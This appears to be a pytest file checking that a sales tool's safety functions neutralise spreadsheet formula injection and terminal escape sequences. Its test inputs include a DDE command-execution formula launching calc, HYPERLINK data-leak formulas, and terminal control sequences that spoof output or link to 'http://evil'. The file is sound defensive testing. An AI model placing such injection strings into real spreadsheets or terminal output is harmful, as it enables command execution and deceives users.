"""What salesnb writes and prints stays inert (issue #14, defects 8 and 9): spreadsheet cells, terminal
text and JSON on a terminal."""

from __future__ import annotations

import json

import openpyxl
import pandas as pd
import pytest

from salesnb.safety import spreadsheet_cell, spreadsheet_frame, terminal_json, terminal_text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x/?a="&A1,"Click")', '\'=HYPERLINK("http://x/?a="&A1,"Click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),  # and a carriage return is a newline: no row break inside a CSV cell
        ("x\r=1+1", "x\n=1+1"),
        ("a\r\nb", "a\nb"),
        ("-", "-"),  # a lone sign is text in every spreadsheet (and the quarantine's "no column")
        ("--", "'--"),
        ("-5", "-5"),  # plain numbers written as text stay numbers
        ("+1.25", "+1.25"),
        ("-3e4", "-3e4"),
        ("Alice", "Alice"),
        (" =1+1", " =1+1"),  # LibreOffice and Excel read a leading space as text
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_spreadsheet_cell(value, written):
    assert spreadsheet_cell(value) == written


def test_spreadsheet_frame_changes_text_cells_and_headers_only():
    frame = pd.DataFrame(
        {"=name": ["=1+1", "Bob", None], "amount": [-5.0, 1.0, 2.0], "count": [-1, 2, 3], "ok": [True] * 3}
    )
    out = spreadsheet_frame(frame)
    assert list(out.columns) == ["'=name", "amount", "count", "ok"]
    assert out["'=name"].tolist()[:2] == ["'=1+1", "Bob"] and pd.isna(out["'=name"].iloc[2])
    assert out["amount"].tolist() == [-5.0, 1.0, 2.0] and out["amount"].dtype == frame["amount"].dtype
    assert out["count"].tolist() == [-1, 2, 3]
    assert frame["=name"].iloc[0] == "=1+1"  # the caller's frame is left alone


def test_xlsx_written_from_a_safe_frame_holds_no_formula(tmp_path):
    # openpyxl (pandas' XLSX writer) stores any string starting with "=" as a formula
    frame = pd.DataFrame({"name": ["=1+1", '=HYPERLINK("http://x","y")', "@SUM(A1)"], "n": [-5, 1, 2]})
    frame.to_excel(tmp_path / "raw.xlsx", index=False)
    spreadsheet_frame(frame).to_excel(tmp_path / "safe.xlsx", index=False)
    raw = openpyxl.load_workbook(tmp_path / "raw.xlsx").active
    assert any(c.data_type == "f" for row in raw.iter_rows() for c in row)  # what the guard prevents
    safe = openpyxl.load_workbook(tmp_path / "safe.xlsx").active
    assert not [c.value for row in safe.iter_rows() for c in row if c.data_type == "f"]
    assert [c.value for c in safe["A"]][1:] == ["'=1+1", '\'=HYPERLINK("http://x","y")', "'@SUM(A1)"]
    assert [c.value for c in safe["B"]][1:] == [-5, 1, 2]


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
        ("\x1b[32mall rows stored OK\x1b[0m", "\\x1b[32mall rows stored OK\\x1b[0m"),
        ("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07"),
        ("\x1b]8;;http://evil\x1b\\Click\x1b]8;;\x1b\\", "\\x1b]8;;http://evil\\x1b\\Click\\x1b]8;;\\x1b\\"),
        ("a\rb\nc\td", "a\\rb\\nc\\td"),
        ("\x9b2J\x7f", "\\x9b2J\\x7f"),
        ("\u202eevil\u2066x\u2028", "\\u202eevil\\u2066x\\u2028"),
        ("李伟 · Ünïcode [red]x[/red] $x^{2}$", "李伟 · Ünïcode [red]x[/red] $x^{2}$"),
        (42, "42"),
    ],
)
def test_terminal_text(value, shown):
    assert terminal_text(value) == shown


def test_terminal_json_is_the_same_data_without_raw_control_characters():
    data = {"name": "\x1b[2J\x9b\u202eevil", "n": [1, 2]}
    text = terminal_json(json.dumps(data, ensure_ascii=False, indent=2))
    assert json.loads(text) == data
    assert not any((ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c == "\u202e" for c in text)
    assert text.count("\n") == 6  # the indentation's own newlines stay
